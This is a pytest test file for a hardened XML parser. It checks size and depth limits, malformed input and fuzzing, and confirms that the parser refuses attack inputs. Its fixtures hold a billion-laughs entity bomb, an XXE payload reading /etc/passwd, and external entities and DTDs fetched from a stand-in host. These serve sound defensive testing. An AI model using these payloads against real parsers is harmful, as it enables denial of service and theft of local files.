"""parse_untrusted: what it accepts, the attacks it refuses (bombs, XXE, DTDs), its limits, and fuzzing."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway import xmlsafe
from gateway.xmlsafe import MalformedXml, UnsafeXml, XmlRejected, XmlTooLarge, parse_untrusted

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz a="&lol9;">&lol9;</lolz>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<r>&x;</r>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>
<r/>"""

EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://192.0.2.1/r.dtd"><r/>'

ATTACKS = {"billion-laughs": BILLION_LAUGHS, "xxe-file": XXE_FILE, "xxe-parameter": XXE_PARAMETER,
           "external-dtd": EXTERNAL_DTD, "bare-doctype": b"<!DOCTYPE r><r/>",
           "lowercase-doctype-after-pi": b"<?xml version='1.0'?><?pi x?><!doctype r [<!ENTITY a 'b'>]><r>&a;</r>"}


def test_plain_document_parses_without_pis_or_comments():
    root = parse_untrusted(b'<?xml version="1.0" encoding="utf-8"?><?pi data?><a x="1"><!-- c --><?inner?><b>t</b></a>')
    assert root.tag == "a" and root.get("x") == "1"
    assert [child.tag for child in root] == ["b"]  # the PI and the comment are gone
    assert root.getroottree().docinfo.doctype == ""


def test_predefined_entities_and_character_references_are_fine():
    assert parse_untrusted(b"<a>&lt;&amp;&#65;&#x42;</a>").text == "<&AB"


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_declarations_are_refused_fast(name):
    t0 = time.perf_counter()
    with pytest.raises(UnsafeXml):
        parse_untrusted(ATTACKS[name])
    assert time.perf_counter() - t0 < 0.5


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_parsed_tree_check_catches_what_the_byte_scan_misses(name, monkeypatch):
    # With the pre-parse scan switched off, the safe parser must still expand nothing and
    # fetch nothing, and the DOCTYPE is refused after parsing.
    monkeypatch.setattr(xmlsafe, "_has_declarations", lambda data: False)
    t0 = time.perf_counter()
    with pytest.raises(XmlRejected) as info:
        parse_untrusted(ATTACKS[name])
    assert time.perf_counter() - t0 < 0.5
    assert "root:" not in str(info.value)  # /etc/passwd never made it into anything


def test_doctype_in_utf16_is_refused():
    doc = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        with pytest.raises(UnsafeXml):
            parse_untrusted(doc.encode(encoding))


def test_utf16_document_without_doctype_parses():
    assert parse_untrusted('<?xml version="1.0" encoding="utf-16"?><a>é</a>'.encode("utf-16")).text == "é"


def test_doctype_text_inside_cdata_is_content_not_a_declaration():
    root = parse_untrusted(b"<body><![CDATA[<!DOCTYPE html><html></html>]]></body>")
    assert root.text == "<!DOCTYPE html><html></html>"


def test_undeclared_entity_is_malformed():
    with pytest.raises(MalformedXml):
        parse_untrusted(b"<a>&nbsp;</a>")


@pytest.mark.parametrize("data", [b"", b"   ", b"not xml", b"<a>", b"<a></b>", b"\xff\xfe\x00", b"<a/><b/>",
                                  b'<?xml version="1.0" encoding="no-such-encoding"?><a/>'])
def test_malformed_input(data):
    with pytest.raises(MalformedXml):
        parse_untrusted(data)


def test_size_limit():
    doc = b"<a>" + b"x" * 1000 + b"</a>"
    assert parse_untrusted(doc, max_bytes=len(doc)).text == "x" * 1000
    with pytest.raises(XmlTooLarge):
        parse_untrusted(doc, max_bytes=len(doc) - 1)


def test_depth_limit():
    def nested(depth: int) -> bytes:
        return b"<e>" * depth + b"</e>" * depth
    assert parse_untrusted(nested(10), max_depth=10) is not None
    with pytest.raises(XmlTooLarge):
        parse_untrusted(nested(11), max_depth=10)
    with pytest.raises(XmlRejected):  # far beyond: libxml2's own limit or ours, never a crash
        parse_untrusted(nested(100_000), max_bytes=10_000_000)


def test_rejections_share_one_base():
    assert all(issubclass(cls, XmlRejected) for cls in (MalformedXml, UnsafeXml, XmlTooLarge))
    with pytest.raises(TypeError):
        parse_untrusted("<a/>")  # type: ignore[arg-type]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=600))
def test_fuzz_arbitrary_bytes_never_raise_anything_else(data):
    try:
        parse_untrusted(data, max_bytes=500)
    except XmlRejected:
        pass


_PIECES = [b"<", b">", b"/", b"a", b"b:c", b' x="1"', b"&", b"&amp;", b"&#0;", b"&#x10FFFF;", b";", b"<!--", b"-->",
           b"<![CDATA[", b"]]>", b"<?", b"?>", b"<!DOCTYPE", b"<!ENTITY", b"%", b"SYSTEM", b'"', b"'",
           b' xmlns="urn:x"', b' xmlns:b="urn:y"', b"\xef\xbb\xbf", b"\x00", b"\xff", b"\n", b"text"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=40))
def test_fuzz_xml_shaped_input_never_raises_anything_else(pieces):
    try:
        parse_untrusted(b"".join(pieces), max_depth=8)
    except XmlRejected:
        pass
